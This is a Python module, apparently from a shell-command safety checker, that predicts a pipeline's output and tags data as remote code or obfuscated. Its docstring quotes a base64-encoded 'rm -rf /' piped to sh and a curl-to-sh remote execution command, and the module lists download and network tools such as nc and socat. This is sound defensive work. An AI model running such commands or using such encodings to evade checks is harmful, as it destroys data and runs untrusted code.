"""What flows through a pipe: the text a command prints, when it can be known statically, and
where unknown text came from (a download, a decoder).

This is what lets `echo cm0gLXJmIC8= | base64 -d | sh` be read as `rm -rf /`, and
`curl https://x | sh` be reported as remote code.
"""

from __future__ import annotations

import base64
import binascii
import codecs

from interlock.model import Command

_DECODERS = frozenset(
    {
        "base64",
        "base32",
        "xxd",
        "openssl",
        "gunzip",
        "zcat",
        "gzip",
        "bzip2",
        "xz",
        "unxz",
        "uudecode",
        "rev",
        "tr",
        "basenc",
        "recode",
        "iconv",
        "perl",
        "python",
        "python3",
        "ruby",
        "node",
        "awk",
        "sed",
    }
)
_DOWNLOADERS = frozenset(
    {
        "curl",
        "wget",
        "fetch",
        "http",
        "https",
        "xh",
        "aria2c",
        "nc",
        "ncat",
        "socat",
        "scp",
        "aws",
        "gsutil",
        "gh",
    }
)
_MAX = 1 << 20


def known_stdout(cmd: Command) -> str | None:
    """The text `cmd` prints, when it is fixed by the command line (else None)."""
    prog = cmd.program
    args = cmd.args
    if any(cmd.is_dynamic(i) for i in range(1, len(cmd.argv))):
        return None
    if prog == "echo":
        words = list(args)
        newline = True
        while words and words[0] in ("-n", "-e", "-E", "-ne", "-en"):
            if "n" in words[0]:
                newline = False
            words.pop(0)
        return " ".join(words) + ("\n" if newline else "")
    if prog == "printf" and args:
        fmt = args[0]
        if len(args) > 1 and fmt in ("%s", "%b"):
            return "".join(args[1:])
        if len(args) > 1 and fmt in ("%s\n", "%s\\n"):
            return "".join(a + "\n" for a in args[1:])  # the format repeats for each word
        if "%" not in fmt:
            return codecs.decode(fmt.encode("latin-1", "replace"), "unicode_escape")
        return None
    if prog in ("cat", "tee") and not [a for a in args if not a.startswith("-")]:
        return cmd.stdin
    if cmd.stdin is None:
        return None
    return _decode(prog, args, cmd.stdin)


def _decode(prog: str, args: tuple[str, ...], data: str) -> str | None:
    if len(data) > _MAX:
        return None
    try:
        if prog in ("base64", "basenc") and _decoding(args):
            return base64.b64decode("".join(data.split()) + "==", validate=False).decode(
                "utf-8", "replace"
            )
        if prog == "base32" and _decoding(args):
            return base64.b32decode("".join(data.split())).decode("utf-8", "replace")
        if prog == "openssl" and "base64" in args and "-d" in args:
            return base64.b64decode("".join(data.split()) + "==").decode("utf-8", "replace")
        if prog == "xxd" and "-r" in args and "-p" in args:
            return bytes.fromhex("".join(data.split())).decode("utf-8", "replace")
        if prog == "rev":
            return "\n".join(line[::-1] for line in data.rstrip("\n").split("\n")) + "\n"
        if prog == "tr" and len(args) == 2 and {args[0], args[1]} == {"A-Za-z", "N-ZA-Mn-za-m"}:
            return codecs.decode(data, "rot13")
    except (binascii.Error, ValueError, UnicodeError):
        return None
    return None


def _decoding(args: tuple[str, ...]) -> bool:
    return any(
        a in ("-d", "--decode", "-D") or (a.startswith("-") and not a.startswith("--") and "d" in a)
        for a in args
    )


def origin_tags(cmd: Command, upstream: tuple[str, ...]) -> tuple[str, ...]:
    """Tags describing where `cmd`'s output comes from, carried down a pipeline."""
    prog = cmd.program
    tags = set(upstream)
    if prog in _DOWNLOADERS:
        tags.add("remote-code")
    elif prog in _DECODERS:
        tags.add("obfuscated")
    return tuple(sorted(tags))
